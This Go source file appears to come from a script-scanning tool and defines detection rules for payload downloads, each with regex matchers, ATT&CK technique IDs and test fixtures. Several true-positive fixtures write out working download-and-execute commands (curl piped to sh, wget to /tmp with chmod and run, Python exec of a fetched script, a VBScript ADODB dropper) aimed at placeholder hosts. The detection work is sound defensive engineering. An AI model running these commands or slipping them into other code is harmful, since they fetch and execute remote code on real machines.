package indicators

// downloadIndicators: fetching payloads over the network (ingress tool
// transfer), without executing them on the same line.
func downloadIndicators() []Indicator {
	return []Indicator{
		{
			ID:          "download.ps_webclient",
			Title:       "PowerShell WebClient download",
			Description: "Uses System.Net.WebClient to download a string, file or bytes. Common in admin scripts but the usual first half of a download cradle.",
			Severity:    SeverityMedium, Techniques: techs("T1105"), Tactic: "command-and-control",
			Languages: winCmd,
			m:         rx(`net\.webclient|\.download(?:string|file|data)(?:async)?\s*\(`, "net.webclient", "downloadstring", "downloadfile", "downloaddata"),
			TruePositives: fx(
				`$w = New-Object System.§Net.WebClient; $w.DownloadFile('http://203.0.113.7/a.txt', 'a.txt')`,
				"# fetch\n$c = (New-Object §Net.WebClient)",
			),
			FalsePositives: fx(`# WebClient is obsolete; use HttpClient`, `$client = [System.Net.Http.HttpClient]::new()`),
		},
		{
			ID:          "download.ps_webrequest",
			Title:       "PowerShell web request to a URL",
			Description: "Invoke-WebRequest / Invoke-RestMethod (or their aliases) pointed at an http(s) URL. Routine in admin scripts; relevant in combination.",
			Severity:    SeverityLow, Techniques: techs("T1105"), Tactic: "command-and-control",
			Languages: psBat,
			m:         rx(`\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*https?://`, "invoke-webrequest", "invoke-restmethod", "iwr ", "irm "),
			TruePositives: fx(
				`§Invoke-WebRequest -Uri "https://updates.example/x.zip" -OutFile x.zip`,
				`$r = §iwr http://198.51.100.3/p -UseBasicParsing`,
			),
			FalsePositives: fx(`Invoke-WebRequest -Uri $Uri -OutFile $Path`, `# irm is an alias, see about_Aliases`),
		},
		{
			ID:          "download.ps_downloadfile_run",
			Title:       "Downloaded executable content started",
			Description: "A file with an executable extension is downloaded and the script also starts a process, runs rundll32/regsvr32 or a shell: download and execute.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1204.002"), Tactic: "command-and-control",
			Languages: winCmd,
			m: rx(`(?:downloadfile|-outfile|urlretrieve|savetofile)[^\n]*\.(?:exe|scr|dll|bat|cmd|ps1|vbs|js|hta|msi|com|pif)\b`, "downloadfile", "-outfile", "urlretrieve", "savetofile").
				and(`start-process|invoke-item|\bsaps\b|shellexecute|\.run\s*\(|\.run\s+["a-z]|cmd(?:\.exe)?\s+/[ck]|rundll32|regsvr32|os\.startfile|subprocess\.|os\.system|\.exec\s*\(`, "start-process", "invoke-item", "saps", "shellexecute", ".run", "cmd", "rundll32", "regsvr32", "startfile", "subprocess.", "os.system", ".exec"),
			TruePositives: fx(
				"$wc.§DownloadFile('http://203.0.113.9/u.exe', \"$env:TEMP\\u.exe\")\nStart-Process \"$env:TEMP\\u.exe\"",
				"import urllib.request, os\nurllib.request.§urlretrieve('http://198.51.100.2/s.exe', 'C:/Users/Public/s.exe')\nos.startfile('C:/Users/Public/s.exe')",
			),
			FalsePositives: fx(
				"$wc.DownloadFile($url, \"$env:TEMP\\setup.exe\")\nWrite-Host 'saved'",
				"Start-Process notepad.exe\n$wc.DownloadFile($u, 'readme.txt')",
			),
		},
		{
			ID:          "download.curl_pipe_shell",
			Title:       "Download piped into a shell",
			Description: "curl/wget output piped straight into sh/bash (curl|sh, wget -O- | bash): remote code runs without ever touching disk.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1059.004"), Tactic: "execution",
			Languages: unixCmd,
			m:         rx(`\b(?:curl|wget)\b[^\n|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b`, "curl", "wget"),
			TruePositives: fx(
				`§curl -fsSL http://203.0.113.5/i.sh | sh`,
				"cd /tmp; §wget -qO- http://payload.invalid/x | sudo bash -s",
				`os.system("§curl -s http://198.51.100.4/a|/bin/bash")`,
			),
			FalsePositives: fx(`curl -fsSL https://example.invalid/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg`, `wget -qO- https://example.invalid/list.txt | grep -v '^#'`),
		},
		{
			ID:          "download.unix_fetch_tmp_chmod",
			Title:       "Download to a temp folder and make it executable",
			Description: "A file is fetched into /tmp, /var/tmp or /dev/shm and the script marks files executable: the classic Linux dropper sequence.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1222.002"), Tactic: "command-and-control",
			Languages: unixCmd,
			m: rx(`\b(?:curl|wget|tftp|ftpget)\b[^\n]*(?:/tmp/|/var/tmp/|/dev/shm/|\s-o\s*\.?/?\.?[a-z0-9]+\s*[;&|]|cd\s+/tmp)`, "curl", "wget", "tftp", "ftpget").
				and(`chmod\s+(?:-r\s+)?(?:\+x|[0-7]?[0-7][0-7][157])\b|chmod\s+a\+x|chmod\s+u\+x`, "chmod"),
			TruePositives: fx(
				"§wget http://203.0.113.10/bot -O /tmp/.x\nchmod +x /tmp/.x && /tmp/.x",
				"cd /var/tmp; §curl -o /dev/shm/k http://198.51.100.8/k; chmod 777 /dev/shm/k",
			),
			FalsePositives: fx(
				"curl -o /tmp/release.tar.gz https://example.invalid/r.tar.gz\ntar xzf /tmp/release.tar.gz",
				"chmod +x ./build.sh\n./build.sh",
			),
		},
		{
			ID:          "download.devtcp_http",
			Title:       "HTTP download through /dev/tcp",
			Description: "Speaks HTTP by hand over bash's /dev/tcp pseudo-device, a way to fetch payloads on hosts without curl or wget.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1059.004"), Tactic: "command-and-control",
			Languages:      shOnly,
			m:              rx(`/dev/tcp/[^\s/]+/\d+`, "/dev/tcp/").and(`\bget\s+/`, "get "),
			TruePositives:  fx("exec 3<>§/dev/tcp/203.0.113.3/80\necho -e \"GET /p HTTP/1.0\\r\\n\\r\\n\" >&3"),
			FalsePositives: fx(`# GET / is answered by the server`, `timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/22' && echo open`),
		},
		{
			ID:          "download.wsh_xmlhttp_adodb",
			Title:       "XMLHTTP download saved with ADODB.Stream",
			Description: "An XMLHTTP/WinHttp request whose body is written to disk via ADODB.Stream SaveToFile: the standard VBScript/JScript dropper.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1059.005"), Tactic: "command-and-control",
			Languages: winCmd,
			m: rx(`msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest`, "xmlhttp", "winhttprequest").
				and(`adodb\.stream|savetofile`, "adodb.stream", "savetofile"),
			TruePositives: fx(
				"Set h = CreateObject(\"§MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.4/a.bin\", False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1: s.Open: s.Write h.ResponseBody\ns.SaveToFile \"a.exe\", 2",
				"var x = new ActiveXObject(\"§WinHttp.WinHttpRequest.5.1\"); var s = new ActiveXObject(\"ADODB.Stream\");",
			),
			FalsePositives: fx("Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://status.example/health\", False\nWScript.Echo h.Status"),
		},
		{
			ID:          "download.wsh_xmlhttp",
			Title:       "Script-host HTTP request object",
			Description: "Creates an XMLHTTP or WinHttp request object in a Windows Script Host script. Seen in legitimate admin scripts too.",
			Severity:    SeverityLow, Techniques: techs("T1071.001"), Tactic: "command-and-control",
			Languages:      winHost,
			m:              rx(`(?:createobject|activexobject)\s*\(\s*["'](?:msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest)`, "xmlhttp", "winhttprequest"),
			TruePositives:  fx(`var r = new §ActiveXObject("Microsoft.XMLHTTP");`, `Set o = §CreateObject("WinHttp.WinHttpRequest.5.1")`),
			FalsePositives: fx(`' uses MSXML2.XMLHTTP when available`, `var r = new XMLHttpRequest();`),
		},
		{
			ID:          "download.py_fetch_exec",
			Title:       "Python fetches code and executes it",
			Description: "exec/eval of an HTTP response (urlopen(...).read(), requests .text/.content): remote Python runs in process.",
			Severity:    SeverityCritical, Techniques: techs("T1105", "T1059.006"), Tactic: "execution",
			Languages: pyOnly,
			m: rxc(`\b(?:exec|eval)\s*\([^\n]*(?:urlopen|requests\.(?:get|post)|\.text\b|\.content\b|\.read\(\))`, "exec", "eval").
				and(`urlopen|requests|urllib|http\.client|httpx`, "urlopen", "requests", "urllib", "http.client", "httpx"),
			TruePositives: fx(
				"import urllib.request\n§exec(urllib.request.urlopen('http://203.0.113.6/s.py').read())",
				"import requests\nr = requests.get('http://payload.invalid/x')\n§exec(r.text)",
			),
			FalsePositives: fx("import requests\nr = requests.get(url)\ndata = r.json()", "exec(open('version.py').read())"),
		},
		{
			ID:          "download.py_fetch_binary_run",
			Title:       "Python downloads an executable and runs it",
			Description: "A .exe (or similar) is fetched by urllib/requests and the script also starts processes or files.",
			Severity:    SeverityHigh, Techniques: techs("T1105", "T1204.002"), Tactic: "command-and-control",
			Languages: pyOnly,
			m: rx(`(?:urlretrieve|requests\.get|urlopen)\s*\([^\n]*\.(?:exe|scr|dll|bat|cmd|vbs|msi|ps1)\b`, "urlretrieve", "requests.get", "urlopen").
				and(`os\.startfile|subprocess\.|os\.system|os\.popen|shellexecute`, "startfile", "subprocess.", "os.system", "os.popen", "shellexecute"),
			TruePositives:  fx("r = §requests.get('http://203.0.113.2/upd.exe')\nopen(p, 'wb').write(r.content)\nsubprocess.Popen([p])"),
			FalsePositives: fx("r = requests.get('https://example.invalid/readme.txt')\nsubprocess.run(['ls'])"),
		},
		{
			ID:          "download.paste_site",
			Title:       "Raw content from a paste or file-drop site",
			Description: "References raw pastes or anonymous file drops (pastebin raw, paste.ee, hastebin, transfer.sh, Discord CDN attachments) often used to stage payloads.",
			Severity:    SeverityMedium, Techniques: techs("T1105", "T1102"), Tactic: "command-and-control",
			m:              rx(`pastebin\.com/raw|paste\.ee/r/|hastebin\.com/raw|transfer\.sh/|cdn\.discordapp\.com/attachments/|media\.discordapp\.net/attachments/|rentry\.co/[^\s/]+/raw|ghostbin\.`, "pastebin.com/raw", "paste.ee/r/", "hastebin.com/raw", "transfer.sh/", "discordapp.com/attachments/", "discordapp.net/attachments/", "rentry.co/", "ghostbin."),
			TruePositives:  fx(`$u = "https://§pastebin.com/raw/AbCdEf12"`, `url = "https://§cdn.discordapp.com/attachments/1/2/x.exe"`),
			FalsePositives: fx(`# see https://pastebin.com for the old notes`, `url = "https://discord.com/developers/docs"`),
		},
		{
			ID:          "download.tunnel_service",
			Title:       "Tunnelling service endpoint",
			Description: "Connects to ngrok, Cloudflare quick tunnels, serveo or similar reverse-tunnel services that hide the real server.",
			Severity:    SeverityMedium, Techniques: techs("T1572"), Tactic: "command-and-control",
			m:              rx(`[a-z0-9-]+\.(?:ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localhost\.run)|tcp\.ngrok\.io`, "ngrok", "trycloudflare.com", "serveo.net", "loca.lt", "localhost.run"),
			TruePositives:  fx(`$h = "§abc123.ngrok.io"`, `c.connect(("§abc-def.trycloudflare.com", 443))`),
			FalsePositives: fx(`# ngrok is not used here`, `host = "example.invalid"`),
		},
		{
			ID:          "download.raw_ip_url",
			Title:       "URL with a bare public IP address",
			Description: "An http(s)/ftp URL whose host is a literal public IPv4 address rather than a name; droppers often skip DNS.",
			Severity:    SeverityLow, Techniques: techs("T1071.001"), Tactic: "command-and-control",
			m:              fnr(rawIPURL, "http://", "https://", "ftp://"),
			TruePositives:  fx(`$u = '§http://203.0.113.50:8080/a'`, "x\ny = \"§ftp://198.51.100.7/pub\""),
			FalsePositives: fx(`curl http://127.0.0.1:8080/health`, `url = "http://192.168.1.1/"`, `see https://example.invalid/1.2.3.4`),
		},
		{
			ID:          "download.ftp_script",
			Title:       "Scripted FTP/TFTP transfer",
			Description: "Runs ftp with a command file (-s:) or tftp GET, a way batch droppers pull payloads.",
			Severity:    SeverityMedium, Techniques: techs("T1105"), Tactic: "command-and-control",
			Languages:      winCmd,
			m:              rx(`\bftp(?:\.exe)?\s+(?:-[a-z]+\s+)*-s:|\btftp(?:\.exe)?\s+-i\s+\S+\s+get\b`, "ftp", "tftp"),
			TruePositives:  fx(`§ftp -n -s:cmds.txt 203.0.113.8`, `§tftp -i 198.51.100.9 GET x.exe`),
			FalsePositives: fx(`rem ftp is disabled on this host`, `ftp.example.invalid`),
		},
	}
}
